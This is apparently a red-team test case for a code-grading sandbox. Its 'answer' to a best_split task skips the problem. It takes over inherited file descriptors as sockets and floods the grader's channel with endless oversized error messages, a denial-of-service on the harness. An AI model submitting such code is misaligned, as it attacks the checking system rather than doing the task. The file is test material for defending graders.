# ---
# class: bombs
# tries: Sends as many words for the report as an answer may hold.
# defence: words are bounded
# gains: endless words
# ---

# %% answer: 02_best_split
import json
import os
import socket
import struct


def best_split(n, parts):
    words = {"property": "raised", "message": "many words " * 5_000}
    answer = json.dumps({"error": words, "blobs": []}).encode()
    for fd in range(3, 32):
        try:
            channel = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        while True:
            channel.sendall(struct.pack(">I", len(answer)) + answer)
            if not channel.recv(1 << 20):
                break
